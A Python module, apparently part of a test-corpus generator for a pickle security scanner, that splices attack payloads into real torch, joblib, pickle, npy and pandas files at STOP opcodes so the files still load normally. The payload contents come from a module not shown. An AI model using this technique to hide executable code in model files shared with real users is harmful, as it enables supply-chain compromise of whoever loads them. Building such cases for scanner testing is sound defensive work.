"""mutations generates attacks from real files: a payload spliced into a
file a real library wrote, where that library's loader will read it.

The splice points are found by reading the file's pickles opcode by
opcode (pickletools.genops, which never runs them): just before the STOP
of the first pickle (a legacy torch file has several; a joblib file keeps
array bytes after its wrappers) and just before the file's last byte when
that is a STOP. The payload leaves its value on the stack and POPs it, so
the real file still loads as before.
"""

import io
import pickletools
import zipfile

from pickleasm import Asm
import attacks


def first_stop(data):
    """first_stop returns the offset of the first pickle's STOP, or None."""
    try:
        for op, _, pos in pickletools.genops(io.BytesIO(data)):
            if op.name == "STOP":
                return pos
    except Exception:
        return None
    return None


def splice(data, at, body):
    return data[:at] + body + b"0" + data[at:]


def points(data):
    """points returns the splice offsets of one real file's bytes."""
    out = []
    s = first_stop(data)
    if s is not None:
        out.append(("first-stop", s))
    if data.endswith(b".") and (s is None or s != len(data) - 1):
        out.append(("last-stop", len(data) - 1))
    return out


def candidate(rng, real, names=None):
    """candidate splices one payload into one real file; None if none fits."""
    sink = rng.choice(attacks.SINKS)
    route = rng.choice(["direct", "pydoc.locate", "import_module", "sys.modules", "attrgetter"])
    call = rng.choice(["reduce", "obj", "partial", "setstate"])
    node = attacks.payload(sink, route, call, 2)
    if node is None:
        return None
    body = Asm(proto=2, call="obj" if call == "obj" else "reduce").program(node)[2:-1]  # no PROTO, no STOP
    name = rng.choice(sorted(real))
    data, ext = real[name], {"torch": ".pt", "torch-legacy": ".pt", "joblib-arrays": ".joblib",
                             "pickle": ".pkl", "npy-object": ".npy", "pandas": ".pkl"}[name]
    if name == "torch":
        z = zipfile.ZipFile(io.BytesIO(data))
        inner = z.read([n for n in z.namelist() if n.endswith("/data.pkl")][0])
        pts = points(inner)
        if not pts:
            return None
        where, at = rng.choice(pts)
        blob = attacks.torch_zip(splice(inner, at, body), data)
    else:
        start = data.index(b"\n", 10) + 1 if name == "npy-object" else 0
        pts = [(w, at + start) for w, at in points(data[start:])]
        if not pts:
            return None
        where, at = rng.choice(pts)
        blob = splice(data, at, body)
    cid = "attack.mutation.%s.%s.%s.%s.%s.%s" % (name, where, sink[0], sink[1], route, call)
    desc = "%s.%s(...) by %s/%s spliced at the %s of a real %s file" % (sink[0], sink[1], route, call, where, name)
    return {"id": cid, "kind": "attack", "ext": ext, "data": blob, "desc": desc}
